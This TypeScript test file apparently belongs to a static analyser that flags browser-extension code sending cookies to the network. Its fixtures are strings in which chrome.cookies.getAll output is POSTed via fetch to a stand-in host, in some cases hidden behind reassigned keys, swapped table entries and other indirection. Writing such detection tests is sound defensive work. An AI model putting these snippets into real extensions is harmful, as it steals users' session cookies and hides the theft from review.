import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../testing/facts-of.ts';

const post = `x => fetch('https://in.a.dev', { method: 'POST', body: JSON.stringify(x) })`;
const kinds = `const K = { A: 'a', B: 'b' };`;
const table = `const h = { [K.A]: ${post}, [K.B]: (x) => void x };`;
const all = (code: string): string => `chrome.cookies.getAll({}, (c) => { ${code} });`;

/** Tables whose entries constants choose, and the same with the other entry chosen. */
const pairs: Readonly<Record<string, (sent: string, kept: string) => string>> = {
  names: (sent, kept) =>
    `const A = 'a', B = 'b'; const h = { [A]: ${post}, [B]: (x) => void x }; ${all(`h[A](${sent}); h[B](${kept})`)}`,
  'members of an object': (sent, kept) =>
    `${kinds} ${table} ${all(`h[K.A](${sent}); h[K.B](${kept})`)}`,
  numbers: (sent, kept) =>
    `const K = { A: 1, B: 2 }; ${table} ${all(`h[K.A](${sent}); h[K.B](${kept})`)}`,
};

/** What makes the other entry the one that sends. */
const changed: Readonly<Record<string, string>> = {
  'a key that is given another value': `${kinds} K.B = 'a'; ${table}`,
  'a key that is assigned over': `${kinds} Object.assign(K, { B: 'a' }); ${table}`,
  'keys that are handed to a function': `${kinds} const f = (o) => { o.B = 'a' }; f(K); ${table}`,
  'a key whose name is worked out': `${kinds} K[location.hash || 'B'] = 'a'; ${table}`,
  'an entry that is given another value': `${kinds} ${table} h[K.B] = h[K.A];`,
  'entries that change places': `${kinds} ${table} [h.a, h.b] = [h.b, h.a];`,
  'an entry that a pattern gives': `${kinds} ${table} ({ x: h.b } = { x: ${post} });`,
  'an entry that a loop gives': `${kinds} ${table} for (h.b of [${post}]) void 0;`,
  'an entry that is defined': `${kinds} ${table} Object.defineProperty(h, 'b', { value: ${post} });`,
  'a table that is made anew': `${kinds} let h = { a: ${post}, b: (x) => void x }; h = Object.fromEntries(Object.entries(h).reverse());`,
  'a table that a function fills': `${kinds} ${table} const mix = (o) => { o.b = o.a }; mix(h);`,
};

describe('entries that constants choose', () => {
  for (const [what, code] of Object.entries(pairs)) {
    it(`are told apart by ${what}`, () => {
      assert.ok(isStolen(code('c', '5')));
      assert.ok(!isStolen(code('5', 'c')));
    });
  }
  for (const [what, code] of Object.entries(changed)) {
    it(`are not told apart behind ${what}`, () => {
      assert.ok(isStolen(`${code} ${all('h[K.B](c)')}`));
    });
  }
});

function isStolen(source: string): boolean {
  return factsOf(source).flows.some(
    ({ source: from, sink }) => from.kind === 'cookies' && sink.kind === 'network',
  );
}
